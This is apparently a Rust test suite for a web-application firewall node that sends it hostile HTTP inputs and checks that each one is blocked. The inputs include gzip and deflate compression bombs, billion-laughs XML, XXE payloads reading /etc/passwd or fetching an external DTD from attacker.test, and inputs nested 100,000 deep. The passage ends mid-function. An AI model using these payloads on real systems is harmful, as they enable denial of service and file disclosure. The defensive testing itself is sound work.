//! Hostile inputs (issue 11): a real `rampart node` process, in block mode,
//! in front of the conformance suite's echo backend, fed over loopback HTTP
//! with compression bombs, entity expansion, deep nesting, huge multipart
//! bodies, oversized heads, broken encodings, null bytes and slow clients.
//!
//! Every case is a row of a table: the request, sent byte for byte, and the
//! outcome the node must give: an answer of its own (a block with the rule
//! its log names, an HTTP error), the request as the upstream received it,
//! or a closed connection. The node's peak resident memory is sampled around
//! each case (`VmHWM` of /proc, reset through `clear_refs`) and must stay
//! under [`PEAK_BOUND_KB`]; the node must still be running after every case.
//! Time is never asserted: [`HANG`] only stops a test that would otherwise
//! wait forever, far past every timeout of the node.
//!
//! One test function per group; run with `-- --nocapture` to see the table.
//! Two tests showed defects, now mended (docs/RATIONALE.md): connections
//! that never sent a byte were never closed, and stalled bodies were
//! buffered without a node-wide memory budget (`overload.body_memory`).

// Test helpers outside `#[test]` functions unwrap and panic too.
#![allow(clippy::unwrap_used, clippy::panic, clippy::disallowed_methods)]

use std::fmt::Write as _;
use std::net::SocketAddr;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use flate2::{Compress, Compression, Crc, FlushCompress};
use rampart_conformance::backend::{Echo, Seen};
use rampart_conformance::client::{parse, Response};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

/// The most resident memory the node may use at any time while a table runs.
const PEAK_BOUND_KB: u64 = 256 * 1024;

/// A safety net against a hang: far past every timeout of the test's nodes.
/// Reaching it fails the test; it is not a measured bound.
const HANG: Duration = Duration::from_secs(120);

/// Header and body read timeouts of the slow-client node.
const SLOW_TIMEOUT_MS: u64 = 1500;

/// Slow connections opened at once.
const SLOW_CONNECTIONS: usize = 1000;

// ---------------------------------------------------------------- the node

/// A running `rampart node`, killed (by its pid) when dropped.
struct Node {
    child: Child,
    dir: PathBuf,
    log: PathBuf,
    addr: SocketAddr,
    admin: SocketAddr,
}

impl Drop for Node {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
        if !std::thread::panicking() {
            let _ = std::fs::remove_dir_all(&self.dir);
        }
    }
}

impl Node {
    /// Starts a node in block mode in front of `upstream`; `tables` holds
    /// the TOML tables that differ from the defaults (`[timeouts]`...).
    async fn start(group: &str, upstream: SocketAddr, tables: &str) -> Node {
        let dir =
            std::env::temp_dir().join(format!("rampart-hostile-{group}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        let log = dir.join("node.log");
        let config = dir.join("node.toml");
        std::fs::write(
            &config,
            format!(
                "listen = \"127.0.0.1:0\"\nupstream = \"http://{upstream}\"\n\
                 admin_listen = \"127.0.0.1:0\"\nmode = \"block\"\nlog_format = \"json\"\n\
                 log_file = {log:?}\n\n[telemetry]\nenabled = false\n\n{tables}\n"
            ),
        )
        .unwrap();
        let child = Command::new(env!("CARGO_BIN_EXE_rampart"))
            .arg("node")
            .arg("--config")
            .arg(&config)
            .current_dir(&dir)
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(dir.join("stderr.txt")).unwrap())
            .spawn()
            .expect("rampart node starts");
        let mut node = Node {
            child,
            dir,
            log,
            addr: SocketAddr::from(([127, 0, 0, 1], 0)),
            admin: SocketAddr::from(([127, 0, 0, 1], 0)),
        };
        for _ in 0..1200 {
            for v in node.log_lines() {
                if v["message"] == "rampart node serving" {
                    node.addr = v["listen"].as_str().unwrap().parse().unwrap();
                    let admin = v["admin"].as_str().unwrap();
                    node.admin = admin
                        .trim_start_matches("Some(")
                        .trim_end_matches(')')
                        .parse()
                        .unwrap();
                    return node;
                }
            }
            assert!(node.running(), "the node exited: {}", node.stderr());
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        panic!("the node did not start: {}", node.stderr());
    }

    fn pid(&self) -> u32 {
        self.child.id()
    }

    fn running(&mut self) -> bool {
        matches!(self.child.try_wait(), Ok(None))
    }

    fn stderr(&self) -> String {
        std::fs::read_to_string(self.dir.join("stderr.txt")).unwrap_or_default()
    }

    fn log_lines(&self) -> Vec<serde_json::Value> {
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect()
    }

    /// A field of /proc/PID/status, in kB.
    fn status_kb(&self, field: &str) -> u64 {
        let text = std::fs::read_to_string(format!("/proc/{}/status", self.pid())).unwrap();
        text.lines()
            .find_map(|l| l.strip_prefix(field)?.strip_prefix(':'))
            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
            .unwrap_or_else(|| panic!("no {field} in /proc/{}/status", self.pid()))
    }

    /// Resets the peak resident size to the current one (where the kernel
    /// allows it; the peak then covers everything since the start).
    fn reset_peak(&self) {
        let _ = std::fs::write(format!("/proc/{}/clear_refs", self.pid()), "5");
    }

    fn peak_kb(&self) -> u64 {
        self.status_kb("VmHWM")
    }

    /// The verdict log line of a request.
    async fn verdict(&self, request_id: &str) -> Option<serde_json::Value> {
        for _ in 0..100 {
            let found = self
                .log_lines()
                .into_iter()
                .find(|v| v["request_id"] == request_id && v.get("action").is_some());
            if found.is_some() {
                return found;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        None
    }

    /// A value of the node's Prometheus metrics.
    async fn metric(&self, name: &str) -> f64 {
        let raw = exchange(
            self.admin,
            b"GET /metrics HTTP/1.1\r\nHost: admin\r\nConnection: close\r\n\r\n".to_vec(),
        )
        .await;
        let Reply::Answer(r) = raw else {
            panic!("no answer from /metrics");
        };
        String::from_utf8_lossy(&r.body)
            .lines()
            .find_map(|l| l.strip_prefix(name)?.strip_prefix(' ')?.trim().parse().ok())
            .unwrap_or_else(|| panic!("no {name} in the metrics"))
    }
}

// -------------------------------------------------------------- the client

/// What came back on a connection.
#[derive(Debug)]
enum Reply {
    Answer(Response),
    /// The connection closed without a (parsable) answer.
    Closed,
}

/// Writes `bytes` while reading the answer until the node closes the
/// connection. The node may answer and close before reading everything: a
/// write cut short is not an error.
async fn exchange(addr: SocketAddr, bytes: Vec<u8>) -> Reply {
    let stream = TcpStream::connect(addr).await.unwrap();
    let (mut r, mut w) = stream.into_split();
    let writer = tokio::spawn(async move {
        let _ = w.write_all(&bytes).await;
        w
    });
    let mut raw = Vec::new();
    let mut chunk = vec![0u8; 64 << 10];
    let read = async {
        loop {
            match r.read(&mut chunk).await {
                Ok(0) | Err(_) => break,
                Ok(n) => raw.extend_from_slice(&chunk[..n]),
            }
        }
    };
    tokio::time::timeout(HANG, read)
        .await
        .expect("the node neither answered nor closed the connection");
    writer.abort();
    match parse(&raw) {
        Ok(resp) => Reply::Answer(resp),
        Err(_) => Reply::Closed,
    }
}

/// A request, sent byte for byte.
#[derive(Debug, Clone)]
struct Req {
    method: Vec<u8>,
    target: Vec<u8>,
    headers: Vec<(Vec<u8>, Vec<u8>)>,
    body: Vec<u8>,
}

impl Req {
    fn new(method: &str, target: impl Into<Vec<u8>>) -> Req {
        Req {
            method: method.as_bytes().to_vec(),
            target: target.into(),
            headers: Vec::new(),
            body: Vec::new(),
        }
    }

    fn get(target: impl Into<Vec<u8>>) -> Req {
        Req::new("GET", target)
    }

    fn post(target: &str, content_type: &str, body: impl Into<Vec<u8>>) -> Req {
        let mut r = Req::new("POST", target).header("Content-Type", content_type);
        r.body = body.into();
        r
    }

    fn header(mut self, name: impl Into<Vec<u8>>, value: impl Into<Vec<u8>>) -> Req {
        self.headers.push((name.into(), value.into()));
        self
    }

    /// The bytes on the wire, with the echo marker and `Connection: close`.
    fn bytes(&self, marker: &str) -> Vec<u8> {
        let mut out = Vec::with_capacity(self.body.len() + 4096);
        out.extend_from_slice(&self.method);
        out.push(b' ');
        out.extend_from_slice(&self.target);
        out.extend_from_slice(b" HTTP/1.1\r\nHost: hostile.test\r\n");
        for (n, v) in &self.headers {
            out.extend_from_slice(n);
            out.extend_from_slice(b": ");
            out.extend_from_slice(v);
            out.extend_from_slice(b"\r\n");
        }
        let _ = write!(
            Wr(&mut out),
            "X-Conformance-Marker: {marker}\r\nConnection: close\r\n"
        );
        if !self.body.is_empty() || self.method == b"POST" {
            let _ = write!(Wr(&mut out), "Content-Length: {}\r\n", self.body.len());
        }
        out.extend_from_slice(b"\r\n");
        out.extend_from_slice(&self.body);
        out
    }
}

/// `fmt::Write` into bytes.
struct Wr<'a>(&'a mut Vec<u8>);

impl std::fmt::Write for Wr<'_> {
    fn write_str(&mut self, s: &str) -> std::fmt::Result {
        self.0.extend_from_slice(s.as_bytes());
        Ok(())
    }
}

// --------------------------------------------------------------- the table

/// What the node must do with a case.
#[derive(Debug, Clone, Copy)]
enum Expect {
    /// Blocked by the engine: the block status, never forwarded, and a
    /// verdict log line naming this rule (`a|b`: either).
    Blocked(&'static str),
    /// The node refuses the request itself with this status (an HTTP
    /// limit or a malformed message), before inspection; never forwarded.
    Refused(u16),
    /// Forwarded: the upstream's answer comes back and the upstream saw the
    /// method, target, headers and body exactly as sent.
    Forwarded,
    /// Forwarded with its body framed anew: the upstream received this
    /// body with one `Content-Length` and no `Transfer-Encoding`.
    Reframed(&'static [u8]),
    /// Forwarded as sent, with an anomaly finding that does not block on
    /// its own: a node that blocks on any anomaly (`anomaly_threshold = 1`)
    /// blocks it and names this rule.
    Noted(&'static str),
}

#[derive(Debug)]
struct Case {
    name: &'static str,
    send: Wire,
    expect: Expect,
}

#[derive(Debug)]
enum Wire {
    Req(Req),
    /// Raw bytes, for what a request builder cannot express (a NUL in the
    /// method); [`MARK`] in them, if anywhere, becomes the echo marker.
    Raw(Vec<u8>),
}

fn case(name: &'static str, req: Req, expect: Expect) -> Case {
    Case {
        name,
        send: Wire::Req(req),
        expect,
    }
}

/// Where a raw request takes the echo marker.
const MARK: &[u8] = b"@MARKER@";

fn raw(name: &'static str, bytes: impl Into<Vec<u8>>, expect: Expect) -> Case {
    Case {
        name,
        send: Wire::Raw(bytes.into()),
        expect,
    }
}

/// One row of the printed table.
struct Row {
    name: &'static str,
    outcome: String,
    peak_kb: u64,
}

/// The node of a group, and the anomaly-strict one when a case needs it.
struct Nodes {
    node: Node,
    strict: Option<Node>,
    echo: Echo,
}

/// Sends a case to a node; returns the reply, the node's peak RSS during
/// it, and what the upstream received.
async fn send(node: &Node, echo: &Echo, c: &Case, marker: &str) -> (Reply, u64, Option<Seen>) {
    let bytes = match &c.send {
        Wire::Req(r) => r.bytes(marker),
        Wire::Raw(b) => match b.windows(MARK.len()).position(|w| w == MARK) {
            Some(i) => [&b[..i], marker.as_bytes(), &b[i + MARK.len()..]].concat(),
            None => b.clone(),
        },
    };
    node.reset_peak();
    let reply = exchange(node.addr, bytes).await;
    let peak_kb = node.peak_kb();
    (reply, peak_kb, echo.take(marker))
}

/// Runs every case, one after another; returns the rows and every mismatch.
async fn run_table(n: &mut Nodes, cases: Vec<Case>) -> (Vec<Row>, Vec<String>) {
    let mut rows = Vec::new();
    let mut failures = Vec::new();
    for (i, c) in cases.into_iter().enumerate() {
        // Only letters and digits: the marker header must add no finding.
        let marker: String = format!("{i}-{}", c.name)
            .chars()
            .map(|ch| if ch.is_ascii_alphanumeric() { ch } else { '-' })
            .collect();
        let (reply, mut peak_kb, seen) = send(&n.node, &n.echo, &c, &marker).await;
        let (mut outcome, mut problem) = judge(&n.node, &c, c.expect, &reply, seen.as_ref()).await;
        if let (Expect::Noted(rule), Some(strict)) = (c.expect, &n.strict) {
            let marker = format!("{marker}-strict");
            let (reply, peak, seen) = send(strict, &n.echo, &c, &marker).await;
            peak_kb = peak_kb.max(peak);
            let (o, p) = judge(strict, &c, Expect::Blocked(rule), &reply, seen.as_ref()).await;
            let rule = o
                .split_once(": ")
                .and_then(|(_, r)| r.split(' ').next())
                .unwrap_or("-");
            outcome = format!("{outcome}; finding {rule}");
            problem = problem.or(p.map(|p| format!("on the anomaly-strict node: {p}")));
        }
        let died = [Some(&mut n.node), n.strict.as_mut()]
            .into_iter()
            .flatten()
            .find_map(|node| (!node.running()).then(|| node.stderr()));
        if let Some(stderr) = died {
            failures.push(format!("{}: the node died: {stderr}", c.name));
            rows.push(Row {
                name: c.name,
                outcome: "the node died".into(),
                peak_kb,
            });
            break;
        }
        if let Some(p) = problem {
            failures.push(format!("{}: {p}", c.name));
        }
        if peak_kb > PEAK_BOUND_KB {
            failures.push(format!(
                "{}: peak RSS {peak_kb} kB over {PEAK_BOUND_KB} kB",
                c.name
            ));
        }
        rows.push(Row {
            name: c.name,
            outcome,
            peak_kb,
        });
    }
    (rows, failures)
}

/// The outcome of one case as text, and what is wrong with it, if anything.
async fn judge(
    node: &Node,
    c: &Case,
    expect: Expect,
    reply: &Reply,
    seen: Option<&Seen>,
) -> (String, Option<String>) {
    let Reply::Answer(resp) = reply else {
        return (
            "connection closed, no answer".into(),
            Some(format!("expected {expect:?}, the connection closed")),
        );
    };
    let status = resp.status;
    match expect {
        Expect::Blocked(rule) => {
            let id = serde_json::from_slice::<serde_json::Value>(&resp.body)
                .ok()
                .and_then(|v| v["request_id"].as_str().map(str::to_string))
                .unwrap_or_default();
            let verdict = match status {
                403 => node.verdict(&id).await,
                _ => None,
            };
            let field = |f: &str| {
                verdict
                    .as_ref()
                    .and_then(|v| v[f].as_str())
                    .unwrap_or("-")
                    .to_string()
            };
            let got_rule = field("rule");
            let outcome = format!("{status} blocked: {got_rule} at {}", field("point"));
            let problem = if status != 403 {
                Some(format!(
                    "expected 403 ({rule}), got {status}: {}",
                    body_text(resp)
                ))
            } else if seen.is_some() {
                Some("blocked, yet the upstream received it".into())
            } else if !rule.split('|').any(|r| r == got_rule) {
                Some(format!("expected rule {rule}, the log says {verdict:?}"))
            } else {
                None
            };
            (outcome, problem)
        }
        Expect::Refused(want) => {
            let outcome = format!("{status} from the node, not forwarded");
            let problem = if status != want {
                Some(format!(
                    "expected {want}, got {status}: {}",
                    body_text(resp)
                ))
            } else if seen.is_some() {
                Some("refused, yet the upstream received it".into())
            } else {
                None
            };
            (outcome, problem)
        }
        Expect::Reframed(body) => {
            let header = |s: &Seen, n: &str| -> Vec<Vec<u8>> {
                s.headers
                    .iter()
                    .filter(|(h, _)| h.eq_ignore_ascii_case(n))
                    .map(|(_, v)| v.clone())
                    .collect()
            };
            let problem = match seen {
                _ if status != 200 => Some(format!(
                    "expected the upstream's 200, got {status}: {}",
                    body_text(resp)
                )),
                None => Some("the upstream did not receive it".into()),
                Some(s) if s.body != body => Some(format!("the upstream got body {:?}", s.body)),
                Some(s) if !header(s, "transfer-encoding").is_empty() => {
                    Some("the upstream got a Transfer-Encoding".into())
                }
                Some(s) if header(s, "content-length") != [body.len().to_string().into_bytes()] => {
                    Some(format!(
                        "the upstream got Content-Length {:?}",
                        header(s, "content-length")
                    ))
                }
                Some(_) => None,
            };
            ("200, forwarded with one Content-Length".into(), problem)
        }
        Expect::Forwarded | Expect::Noted(_) => {
            let Wire::Req(req) = &c.send else {
                unreachable!("forwarded cases are built requests")
            };
            let problem = match seen {
                _ if status != 200 => Some(format!(
                    "expected the upstream's 200, got {status}: {}",
                    body_text(resp)
                )),
                None => Some("the upstream did not receive it".into()),
                Some(s) => forwarded_as_sent(req, s),
            };
            ("200, forwarded as sent".into(), problem)
        }
    }
}

fn body_text(r: &Response) -> String {
    String::from_utf8_lossy(&r.body[..r.body.len().min(300)]).into_owned()
}

/// What differs between a request and what the upstream received.
fn forwarded_as_sent(req: &Req, seen: &Seen) -> Option<String> {
    if seen.method.as_bytes() != req.method.as_slice() {
        return Some(format!("method became {:?}", seen.method));
    }
    if seen.target != req.target {
        return Some(format!(
            "target became {:?}",
            String::from_utf8_lossy(&seen.target)
        ));
    }
    if seen.body != req.body {
        return Some(format!(
            "body changed ({} bytes sent, {} received)",
            req.body.len(),
            seen.body.len()
        ));
    }
    for (n, v) in &req.headers {
        let name = String::from_utf8_lossy(n);
        let got = seen
            .headers
            .iter()
            .find(|(h, _)| h.eq_ignore_ascii_case(&name))
            .map(|(_, v)| v);
        if got != Some(v) {
            return Some(format!("header {name} became {got:?}"));
        }
    }
    None
}

/// Prints the table and fails on any mismatch.
fn report(group: &str, rows: &[Row], failures: &[String]) {
    let mut t = format!("\n{group}\n");
    let _ = writeln!(t, "| case | outcome | peak RSS |\n|---|---|---|");
    for r in rows {
        let _ = writeln!(
            t,
            "| {} | {} | {:.1} MB |",
            r.name,
            r.outcome,
            r.peak_kb as f64 / 1024.0
        );
    }
    println!("{t}");
    assert!(
        failures.is_empty(),
        "{group}: {} failure(s):\n{}\n{t}",
        failures.len(),
        failures.join("\n")
    );
}

/// The time budget of the table's nodes. A debug build decodes many times
/// slower than a release build: with the default 50 ms, the time budget,
/// not the one a case aims at (bytes, nesting, points), would decide, and
/// only some of the time.
const TIME_BUDGET: &str = "[limits]\nmax_time_ms = 10000\n";

/// Runs a group's table on a fresh node (block mode, `tables` and
/// [`TIME_BUDGET`] over the defaults), then checks that the node still
/// serves a normal request.
async fn group(name: &str, tables: &str, cases: Vec<Case>) {
    let tables = format!("{TIME_BUDGET}\n{tables}");
    let tables = tables.as_str();
    let echo = Echo::start("127.0.0.1:0".parse().unwrap()).await.unwrap();
    let node = Node::start(name, echo.addr(), tables).await;
    let strict = match cases.iter().any(|c| matches!(c.expect, Expect::Noted(_))) {
        true => Some(
            Node::start(
                &format!("{name}-strict"),
                echo.addr(),
                &format!("{tables}\n[policy]\nanomaly_threshold = 1\n"),
            )
            .await,
        ),
        false => None,
    };
    let mut nodes = Nodes { node, strict, echo };
    let (rows, mut failures) = run_table(&mut nodes, cases).await;
    for node in [Some(&mut nodes.node), nodes.strict.as_mut()]
        .into_iter()
        .flatten()
    {
        if node.running() {
            if let Some(p) = still_serves(node, &nodes.echo).await {
                failures.push(format!("after the table: {p}"));
            }
        }
    }
    report(name, &rows, &failures);
}

/// A normal request after the hostile ones: forwarded, answered 200.
async fn still_serves(node: &Node, echo: &Echo) -> Option<String> {
    let req = Req::get("/after?ok=1");
    let marker = echo.next_marker();
    match exchange(node.addr, req.bytes(&marker)).await {
        Reply::Answer(r) if r.status == 200 && echo.take(&marker).is_some() => None,
        other => Some(format!("a normal request then got {other:?}")),
    }
}

// ------------------------------------------------------------ the payloads

/// One MiB of zeros compressed as raw deflate blocks that end on a byte
/// boundary and refer to nothing before them (a full flush): repeated, they
/// make a stream of that many MiB.
fn zeros_mib_block() -> &'static [u8] {
    static BLOCK: std::sync::OnceLock<Vec<u8>> = std::sync::OnceLock::new();
    BLOCK.get_or_init(compress_zeros_mib)
}

fn compress_zeros_mib() -> Vec<u8> {
    let zeros = vec![0u8; 1 << 20];
    let mut c = Compress::new(Compression::best(), false);
    let mut out = Vec::with_capacity(64 << 10);
    while c.total_in() < zeros.len() as u64 {
        let at = c.total_in() as usize;
        c.compress_vec(&zeros[at..], &mut out, FlushCompress::Full)
            .unwrap();
        out.reserve(64 << 10);
    }
    assert!(
        out.ends_with(&[0, 0, 0xff, 0xff]),
        "a full flush ends aligned"
    );
    out
}

/// Raw deflate of `mib` MiB of zeros, with a final empty block.
fn deflate_zeros(mib: usize) -> Vec<u8> {
    let block = zeros_mib_block();
    let mut out = Vec::with_capacity(block.len() * mib + 2);
    for _ in 0..mib {
        out.extend_from_slice(block);
    }
    // A final, empty block with fixed codes.
    out.extend_from_slice(&[0x03, 0x00]);
    out
}

/// How many MiB of zeros compress into at most `bytes`.
fn mib_fitting(bytes: usize) -> usize {
    (bytes - 64) / zeros_mib_block().len()
}

/// A gzip bomb of `mib` MiB of zeros, one member, a right CRC and size.
fn gzip_bomb(mib: usize) -> Vec<u8> {
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 0xff];
    out.extend_from_slice(&deflate_zeros(mib));
    let mut one = Crc::new();
    one.update(&vec![0u8; 1 << 20]);
    let mut crc = Crc::new();
    for _ in 0..mib {
        crc.combine(&one);
    }
    out.extend_from_slice(&crc.sum().to_le_bytes());
    out.extend_from_slice(&(crc.amount()).to_le_bytes());
    out
}

/// A zlib-wrapped deflate bomb of `mib` MiB of zeros, with a right Adler-32.
fn zlib_bomb(mib: usize) -> Vec<u8> {
    let mut out = vec![0x78, 0xda];
    out.extend_from_slice(&deflate_zeros(mib));
    // Adler-32 of n zeros: a = 1, b = n mod 65521.
    let b = ((mib as u64) << 20) % 65521;
    out.extend_from_slice(&(((b as u32) << 16) | 1).to_be_bytes());
    out
}

fn base64(data: &[u8]) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut s = String::with_capacity(data.len().div_ceil(3) * 4);
    for c in data.chunks(3) {
        let n = c
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, &b)| n | u32::from(b) << (16 - 8 * i));
        for i in 0..4 {
            if i <= c.len() {
                s.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                s.push('=');
            }
        }
    }
    s
}

/// Percent-encodes everything but unreserved characters.
fn pct(s: &str) -> String {
    let mut o = String::with_capacity(s.len() * 3);
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            o.push(b as char);
        } else {
            let _ = write!(o, "%{b:02X}");
        }
    }
    o
}

const JSON: &str = "application/json";
const XML: &str = "application/xml";
const FORM: &str = "application/x-www-form-urlencoded";

fn multipart(parts: usize) -> (String, Vec<u8>) {
    let boundary = "hostileboundary";
    let mut body = Vec::with_capacity(parts * 64);
    for i in 0..parts {
        let _ = write!(
            Wr(&mut body),
            "--{boundary}\r\nContent-Disposition: form-data; name=\"f{}\"\r\n\r\nv\r\n",
            i % 10
        );
    }
    let _ = write!(Wr(&mut body), "--{boundary}--\r\n");
    (format!("multipart/form-data; boundary={boundary}"), body)
}

fn billion_laughs() -> String {
    let mut x = String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
    for i in 1..10 {
        let prev = if i == 1 {
            "lol".to_string()
        } else {
            format!("lol{}", i - 1)
        };
        let refs = format!("&{prev};").repeat(10);
        let _ = writeln!(x, "<!ENTITY lol{i} \"{refs}\">");
    }
    x.push_str("]>\n<lolz>&lol9;</lolz>\n");
    x
}

// ------------------------------------------------------------------ groups

/// Gzip and deflate bombs, declared by `Content-Encoding` and hidden in
/// values (base64 of gzip in JSON, in the query, in a form).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn compression_bombs() {
    // The default 1 MiB inspection limit: the bombs fill it.
    let body_mib = mib_fitting(1 << 20);
    let gz = gzip_bomb(body_mib);
    let zl = zlib_bomb(body_mib);
    let raw = deflate_zeros(body_mib);
    assert!(
        gz.len() < 1 << 20 && body_mib >= 900,
        "{} MiB in {} bytes",
        body_mib,
        gz.len()
    );
    // Base64 grows by a third.
    let in_json = gzip_bomb(mib_fitting(700 << 10));
    // hyper refuses targets over 64 KiB with 414.
    let in_query = gzip_bomb(mib_fitting(40 << 10));
    let double = {
        let inner = gzip_bomb(mib_fitting(1 << 20));
        let mut c = flate2::write::GzEncoder::new(Vec::new(), Compression::best());
        std::io::Write::write_all(&mut c, &inner).unwrap();
        c.finish().unwrap()
    };
    let over_limit = gzip_bomb(3 * body_mib);
    // The bombs are well-formed: small ones inflate to their zeros.
    let inflated = |mut r: Box<dyn std::io::Read>| {
        let mut out = Vec::new();
        r.read_to_end(&mut out).unwrap();
        out == vec![0u8; 3 << 20]
    };
    let (g, z, d) = (gzip_bomb(3), zlib_bomb(3), deflate_zeros(3));
    assert!(inflated(Box::new(flate2::read::GzDecoder::new(&g[..]))));
    assert!(inflated(Box::new(flate2::read::ZlibDecoder::new(&z[..]))));
    assert!(inflated(Box::new(flate2::read::DeflateDecoder::new(
        &d[..]
    ))));
    let cases = vec![
        case(
            "gzip bomb, Content-Encoding: gzip (~1 GiB of zeros in 1 MB)",
            Req::post("/upload", "text/plain", gz.clone()).header("Content-Encoding", "gzip"),
            Expect::Blocked("limit.bytes"),
        ),
        case(
            "3 GiB gzip bomb in 3 MB, over the 1 MiB inspection limit",
            Req::post("/upload", "text/plain", over_limit).header("Content-Encoding", "gzip"),
            Expect::Blocked("limit.bytes"),
        ),
        case(
            "gzip bomb as application/json",
            Req::post("/api", JSON, gz.clone()).header("Content-Encoding", "gzip"),
            Expect::Blocked("limit.bytes"),
        ),
        case(
            "deflate bomb, zlib-wrapped, Content-Encoding: deflate",
            Req::post("/upload", "text/plain", zl).header("Content-Encoding", "deflate"),
            Expect::Blocked("limit.bytes"),
        ),
        case(
            "deflate bomb, raw deflate, Content-Encoding: deflate",
            Req::post("/upload", "text/plain", raw).header("Content-Encoding", "deflate"),
            Expect::Blocked("limit.bytes"),
        ),
        case(
            "gzip of a gzip bomb, Content-Encoding: gzip, gzip",
            Req::post("/upload", "text/plain", double).header("Content-Encoding", "gzip, gzip"),
            Expect::Blocked("limit.bytes"),
        ),
        case(
            "gzip bomb undeclared (sniffed by its magic) in a raw body",
            Req::post("/upload", "application/octet-stream", gz),
            Expect::Blocked("limit.bytes"),
        ),
        case(
            "base64 of a gzip bomb in a JSON value",
            Req::post(
                "/api",
                JSON,
                format!("{{\"file\":\"{}\"}}", base64(&in_json)),
            ),
            Expect::Blocked("limit.bytes"),
        ),
        case(
            "base64 of a gzip bomb in a query parameter",
            Req::get(format!("/search?data={}", pct(&base64(&in_query)))),
            Expect::Blocked("limit.bytes"),
        ),
        case(
            "base64 of a gzip bomb in a form field",
            Req::post(
                "/form",
                FORM,
                format!("a=1&data={}", pct(&base64(&in_json))),
            ),
            Expect::Blocked("limit.bytes"),
        ),
    ];
    group("compression", "", cases).await;
}

/// XML entity expansion and external entities: declarations are surfaced,
/// never expanded, never fetched.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn xml_entities() {
    let quadratic = {
        let big = "a".repeat(100_000);
        let refs = "&big;".repeat(150_000);
        format!("<?xml version=\"1.0\"?><!DOCTYPE q [<!ENTITY big \"{big}\">]><q>{refs}</q>")
    };
    let cases = vec![
        case(
            "billion laughs (10^9 lol)",
            Req::post("/xml", XML, billion_laughs()),
            Expect::Blocked("xxe.entity-expansion"),
        ),
        case(
            "quadratic blowup (100 KB entity referenced 150,000 times)",
            Req::post("/xml", XML, quadratic),
            Expect::Blocked("xxe.entity-expansion"),
        ),
        case(
            "external entity SYSTEM file:///etc/passwd",
            Req::post(
                "/xml",
                XML,
                "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
            ),
            Expect::Blocked("xxe.external-entity|traversal.sensitive-file"),
        ),
        case(
            "external parameter entity (out-of-band DTD)",
            Req::post(
                "/xml",
                XML,
                "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY % dtd SYSTEM \"http://attacker.test/evil.dtd\"> %dtd;]><foo>x</foo>",
            ),
            Expect::Blocked("xxe.external-entity"),
        ),
        case(
            "external DTD (DOCTYPE SYSTEM)",
            Req::post(
                "/xml",
                XML,
                "<?xml version=\"1.0\"?><!DOCTYPE foo SYSTEM \"http://attacker.test/evil.dtd\"><foo>x</foo>",
            ),
            Expect::Blocked("xxe.external-dtd"),
        ),
    ];
    group("xml", "", cases).await;
}

/// Documents nested 100,000 deep.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn deep_nesting() {
    let n = 100_000;
    let jwt = {
        let part = |json: &str| {
            base64(json.as_bytes())
                .trim_end_matches('=')
                .replace('+', "-")
                .replace('/', "_")
        };
        let deep = format!("{{\"a\":{}1{}}}", "[".repeat(50_000), "]".repeat(50_000));
        format!("Bearer {}.{}.c2ln", part("{\"alg\":\"none\"}"), part(&deep))
    };
    let cases = vec![
        case(
            "JSON arrays nested 100,000 deep",
            Req::post("/api", JSON, format!("{}{}", "[".repeat(n), "]".repeat(n))),
            Expect::Blocked("limit.nesting"),
        ),
        case(
            "JSON objects nested 100,000 deep",
            Req::post(
                "/api",
                JSON,
                format!("{}1{}", "{\"a\":".repeat(n), "}".repeat(n)),
            ),
            Expect::Blocked("limit.nesting"),
        ),
        case(
            "JSON arrays opened 100,000 deep, never closed",
            Req::post("/api", JSON, "[".repeat(n)),
            Expect::Blocked("limit.nesting"),
        ),
        case(
            "XML elements nested 100,000 deep",
            Req::post(
                "/xml",
                XML,
                format!("{}{}", "<a>".repeat(n), "</a>".repeat(n)),
            ),
            Expect::Blocked("limit.nesting"),
        ),
        case(
            "JSON arrays nested 10,000 deep in a query parameter",
            Req::get(format!(
                "/api?q={}",
                pct(&format!("{}{}", "[".repeat(10_000), "]".repeat(10_000)))
            )),
            Expect::Blocked("limit.nesting"),
        ),
        case(
            "JSON nested 50,000 deep in a JWT payload",
            Req::get("/me").header("Authorization", jwt),
            Expect::Blocked("limit.nesting"),
        ),
    ];
    group("nesting", "", cases).await;
}

/// Documents 100,000 wide, and encodings stacked deeper than the layer
/// budget.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn wide_documents_and_deep_layers() {
    let n = 100_000;
    let json_members = {
        let mut b = String::from("{");
        for i in 0..n {
            let _ = write!(b, "\"k{i}\":{i},");
        }
        b.push_str("\"end\":0}");
        b
    };
    let xml_attributes = {
        let mut b = String::from("<a");
        for i in 0..n {
            let _ = write!(b, " a{i}=\"{i}\"");
        }
        b.push_str("/>");
        b
    };
    let form = (0..n)
        .map(|i| format!("p{i}={i}"))
        .collect::<Vec<_>>()
        .join("&");
    // Under hyper's 64 KiB limit on the target.
    let query = "a&".repeat(12_000);
    let cookies = (0..10_000)
        .map(|i| format!("c{i}=1"))
        .collect::<Vec<_>>()
        .join("; ");
    let graphql = format!("{}x{}", "{a".repeat(n), "}".repeat(n));
